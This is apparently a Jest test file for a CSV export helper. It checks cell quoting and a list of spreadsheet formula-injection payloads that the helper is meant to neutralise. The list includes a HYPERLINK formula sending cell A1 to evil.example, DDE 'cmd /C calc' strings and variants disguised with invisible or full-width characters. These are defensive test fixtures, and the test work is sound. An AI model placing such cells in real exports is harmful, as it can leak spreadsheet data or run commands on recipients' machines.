/** @jest-environment node */
import { csvCell, toCsv } from './csv';

// Cells a spreadsheet would run as a formula, written so that a trimmed or normalised reading starts one.
const HOSTILE = [
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\uFF1D1+1', // ＝ full-width equals
  '\uFF0B1+1', // ＋ full-width plus
  '\uFF0D1+1', // － full-width hyphen-minus
  '\uFF20SUM(A1)', // ＠ full-width at
  '\uFE66HYPERLINK("x")', // ﹦ small equals
  ' =1+1',
  '   @SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n-1+1',
  '\uFEFF=1+1', // byte-order mark
  '\u200B=1+1', // zero-width space
  '\u200C+1', // zero-width non-joiner
  '\u200D-1', // zero-width joiner
  '\u2060@A1', // word joiner
  '\u00A0=1', // no-break space
  '\u3000\uFF1D1', // ideographic space, then ＝
  '\u200E\u200F=1', // direction marks
  '\u00AD=1', // soft hyphen
  '\u200B \uFEFF\t\uFF0B1', // a mix
];

describe('csv', () => {
  it('quotes commas, quotes and new lines', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
  });

  it('neutralises text that a spreadsheet would run as a formula, but not numbers', () => {
    expect(csvCell('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvCell('@cmd')).toBe("'@cmd");
    expect(csvCell(-12.5)).toBe('-12.5');
    expect(csvCell(-3)).toBe('-3');
  });

  // Test names show the invisible characters as \uXXXX.
  const visible = (cell: string) =>
    cell.replace(/[^\x21-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}`);

  it.each(HOSTILE.map((cell) => [visible(cell), cell]))(
    'neutralises the hostile cell %s with a leading quote',
    (_, cell) => {
      const written = csvCell(cell);
      const unquoted = written.startsWith('"') ? written.slice(1, -1).replace(/""/g, '"') : written;
      expect(unquoted).toBe(`'${cell}`);
    },
  );

  it('leaves text that only contains formula characters later on as it is', () => {
    expect(csvCell('Echo Dot = smart speaker')).toBe('Echo Dot = smart speaker');
    expect(csvCell('\u200Bplain')).toBe('\u200Bplain');
    expect(csvCell(' 42')).toBe(' 42');
    expect(csvCell('info@shop.example')).toBe('info@shop.example');
    expect(csvCell(true)).toBe('true');
  });

  it('writes a header and one line per row', () => {
    const rows = [
      { name: 'Echo Dot (4th Gen)', price: 49.99 },
      { name: 'Desk, oak', price: 120 },
    ];
    expect(
      toCsv(rows, [
        { header: 'Name', value: (r) => r.name },
        { header: 'Price', value: (r) => r.price },
      ]),
    ).toBe('Name,Price\r\nEcho Dot (4th Gen),49.99\r\n"Desk, oak",120');
  });
});
